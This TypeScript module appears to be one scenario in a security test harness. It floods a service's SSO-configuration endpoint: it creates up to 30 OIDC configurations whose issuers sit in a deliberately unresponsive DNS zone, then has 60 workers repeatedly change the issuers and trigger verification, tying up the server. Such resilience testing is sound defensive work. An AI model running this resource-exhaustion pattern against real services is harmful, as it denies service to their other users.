/** F2: verifying an SSO configuration resolves the issuer's name, for which the attacker's own resolver does not answer. */
import { randomUUID } from 'node:crypto';
import type { Assault } from '../assault.ts';
import type { Hand } from '../hand.ts';

const CONFIGS = 30;
const WORKERS = 60;

/** Verifies 30 SSO configurations twice at a time, each of which gets another issuer before every other verification. */
export async function assaultByNames({ send, tenantId }: Hand): Promise<Assault> {
  const ids: string[] = [];
  for (let made = 0; made < CONFIGS; made += 1) {
    const body = { tenant_id: tenantId, kind: 'oidc', alias: 'slow', issuer: slowIssuer() };
    const { status, text } = await send({ method: 'POST', path: '/v1/idp-configs', body });
    if (status !== 201) break;
    ids.push(JSON.parse(text).id);
  }
  if (ids.length === 0) throw new Error('the attacker may not make a single SSO configuration');
  return {
    note: `${ids.length} SSO configurations`,
    workers: WORKERS,
    async act(n, _round, signal) {
      const path = `/v1/idp-configs/${ids[n % ids.length]}`;
      if (n < ids.length) await send({ method: 'PATCH', path, body: { issuer: slowIssuer() } }, signal);
      await send({ method: 'POST', path: `${path}/verify` }, signal);
    },
  };
}

/** A name that no cache has seen, in a zone whose resolver is silent. */
function slowIssuer(): string {
  return `https://${randomUUID()}.slow.example`;
}
